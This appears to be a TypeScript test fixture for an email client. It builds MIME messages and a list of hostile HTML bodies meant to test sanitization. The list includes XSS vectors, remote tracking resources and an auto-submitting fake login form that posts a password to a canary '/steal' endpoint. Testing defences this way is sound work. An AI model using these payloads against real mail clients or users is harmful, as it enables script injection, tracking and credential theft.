import { randomBytes } from 'node:crypto';

// A 1x1 PNG: the inline image of the HTML mail, shown through cid:.
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

export interface MessageOptions {
  to: string;
  subject: string;
  from?: string;
  text?: string;
  date?: Date;
  messageId?: string;
  inReplyTo?: string;
}

const headers = (options: MessageOptions): string[] => [
  `From: ${options.from ?? 'Sender <sender@example.org>'}`,
  `To: ${options.to}`,
  `Subject: ${options.subject}`,
  `Date: ${(options.date ?? new Date()).toUTCString().replace('GMT', '+0000')}`,
  `Message-ID: <${options.messageId ?? `${randomBytes(8).toString('hex')}@example.org`}>`,
  ...(options.inReplyTo ? [`In-Reply-To: <${options.inReplyTo}>`, `References: <${options.inReplyTo}>`] : []),
  'MIME-Version: 1.0',
];

export const plainMessage = (options: MessageOptions): string =>
  [
    ...headers(options),
    'Content-Type: text/plain; charset=utf-8',
    '',
    options.text ?? `Body of ${options.subject}.`,
    '',
  ].join('\r\n');

export const htmlMessage = (options: MessageOptions & { html: string }): string =>
  [...headers(options), 'Content-Type: text/html; charset=utf-8', '', options.html, ''].join('\r\n');

/** HTML with an inline (cid:) image in multipart/related. */
export const inlineImageMessage = (options: MessageOptions): string =>
  [
    ...headers(options),
    'Content-Type: multipart/related; boundary="rel"',
    '',
    '--rel',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<p>Our logo: <img id="logo" src="cid:logo@eider" alt="logo"></p>',
    '--rel',
    'Content-Type: image/png',
    'Content-ID: <logo@eider>',
    'Content-Disposition: inline; filename="logo.png"',
    'Content-Transfer-Encoding: base64',
    '',
    PNG.toString('base64'),
    '--rel--',
    '',
  ].join('\r\n');

/** Text with one attached file. */
export const attachmentMessage = (options: MessageOptions & { filename: string; content: Buffer }): string =>
  [
    ...headers(options),
    'Content-Type: multipart/mixed; boundary="mix"',
    '',
    '--mix',
    'Content-Type: text/plain; charset=utf-8',
    '',
    options.text ?? 'See the attachment.',
    '--mix',
    `Content-Type: application/octet-stream; name="${options.filename}"`,
    `Content-Disposition: attachment; filename="${options.filename}"`,
    'Content-Transfer-Encoding: base64',
    '',
    options.content.toString('base64'),
    '--mix--',
    '',
  ].join('\r\n');

/**
 * Hostile HTML bodies. Every script sets `__pwned` on its own window and its parents and opens a dialog;
 * every remote reference points at `remote` (a canary server of the test) or an unresolvable tracker host.
 */
export const hostileBodies = (remote: string): { name: string; html: string }[] => {
  const pwn = `window.__pwned=1;try{parent.__pwned=1;top.__pwned=1}catch(e){};alert('pwned');console.log('pwned')`;
  return [
    {
      name: 'event handlers',
      html: `<body onload="${pwn}"><img src="x:broken" onerror="${pwn}"><div onmouseover="${pwn}" style="height:50px">hover</div><details open ontoggle="${pwn}"><summary>s</summary></details></body>`,
    },
    {
      name: 'script tags',
      html: `<p>hello</p><script>${pwn}</script><script src="${remote}/evil.js"></script>`,
    },
    {
      name: 'javascript urls',
      html: `<a id="js" href="javascript:${pwn}">click me</a><iframe src="javascript:${pwn}"></iframe><form action="javascript:${pwn}"><button>go</button></form>`,
    },
    {
      name: 'css expressions',
      html: `<style>@import url("${remote}/import.css"); body { background: url("${remote}/bg.png") } @font-face { font-family: Evil; src: url("${remote}/font.woff") } p { font-family: Evil; behavior: url("${remote}/x.htc") }</style><p style="width: expression(${pwn}); background-image: url('${remote}/inline-bg.png')">styled</p>`,
    },
    {
      name: 'svg with script',
      html: `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"><script>${pwn}</script><image href="${remote}/svg-image.png" width="10" height="10"/><a href="javascript:${pwn}"><text y="20">svg link</text></a></svg>`,
    },
    {
      name: 'forms',
      html: `<form id="f" action="${remote}/steal" method="post"><input name="password" value="secret"><input type="submit" value="Log in again"></form><img src="x:broken" onerror="document.getElementById('f').submit()">`,
    },
    {
      name: 'meta refresh',
      html: `<meta http-equiv="refresh" content="0;url=${remote}/refresh"><base href="${remote}/"><p>refresh</p>`,
    },
    {
      name: 'remote resources',
      html: `<img src="${remote}/pixel.gif"><img src="https://tracker.example/open.gif"><img srcset="${remote}/srcset.png 1x"><link rel="stylesheet" href="${remote}/style.css"><link rel="prefetch" href="${remote}/prefetch"><video poster="${remote}/poster.png"></video><audio src="${remote}/a.mp3"></audio><table background="${remote}/table-bg.png"><tr><td>t</td></tr></table><a href="https://example.org/" ping="${remote}/ping">link</a>`,
    },
    {
      name: 'frames and objects',
      html: `<iframe src="${remote}/frame"></iframe><iframe srcdoc="<script>${pwn.replace(/"/g, '&quot;')}</script>"></iframe><object data="${remote}/object"></object><embed src="${remote}/embed"><frameset><frame src="${remote}/frame2"></frameset>`,
    },
  ];
};
